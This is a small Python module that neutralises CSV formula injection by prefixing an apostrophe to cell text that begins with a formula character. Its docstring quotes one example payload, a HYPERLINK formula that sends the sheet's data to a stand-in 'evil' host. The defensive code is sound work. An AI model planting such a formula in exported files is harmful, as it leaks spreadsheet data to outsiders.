"""Text for CSV files people open in a spreadsheet program.

A cell starting with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
return before one) is run as a formula by Excel, LibreOffice and Google
Sheets: a record title such as ``=HYPERLINK("https://evil/?"&A1)`` would
send the sheet's data away when clicked (OWASP "CSV injection"). Such text
gets a leading apostrophe, which the programs show as text and hide.
"""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def as_text(text: str) -> str:
    """``text`` as a cell no spreadsheet runs as a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text
